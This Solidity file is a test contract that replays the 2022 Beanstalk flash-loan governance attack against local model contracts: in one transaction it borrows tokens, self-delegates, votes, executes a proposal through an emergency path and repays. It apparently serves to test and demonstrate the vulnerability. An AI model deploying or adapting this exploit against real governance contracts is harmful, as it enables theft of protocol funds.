// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IVotes} from "@openzeppelin/contracts/governance/utils/IVotes.sol";
import {FlashLoanPool, IFlashBorrower} from "./FlashLoanPool.sol";
import {SameBlockEmergencyGovernor} from "./SameBlockEmergencyGovernor.sol";

/// @notice Test-only attacker for the Beanstalk replay: in ONE transaction it borrows tokens,
/// self-delegates, votes on the same-block model governor, commits the proposal through the
/// emergency path and repays (the sequence of the April 17, 2022 transaction).
contract SameBlockFlashAttacker is IFlashBorrower {
    FlashLoanPool public immutable pool;
    SameBlockEmergencyGovernor public immutable governor;
    /// @notice Votes the attacker held while it held the loan.
    uint256 public votesDuringLoan;

    constructor(FlashLoanPool pool_, SameBlockEmergencyGovernor governor_) {
        pool = pool_;
        governor = governor_;
    }

    /// @notice Borrows `amount`, votes, commits `proposalId` and repays, all in this call.
    /// @param proposalId The proposal to pass.
    /// @param amount The tokens to borrow.
    function attack(uint256 proposalId, uint256 amount) external {
        pool.flashLoan(this, amount, abi.encode(proposalId));
    }

    /// @notice The pool's callback: delegate, vote, commit, repay.
    /// @param token The borrowed token.
    /// @param amount The amount borrowed.
    /// @param data The proposal id.
    function onFlashLoan(IERC20 token, uint256 amount, bytes calldata data) external {
        uint256 proposalId = abi.decode(data, (uint256));
        IVotes(address(token)).delegate(address(this));
        votesDuringLoan = IVotes(address(token)).getVotes(address(this));
        governor.vote(proposalId);
        governor.emergencyCommit(proposalId);
        if (!token.transfer(address(pool), amount)) revert();
    }
}
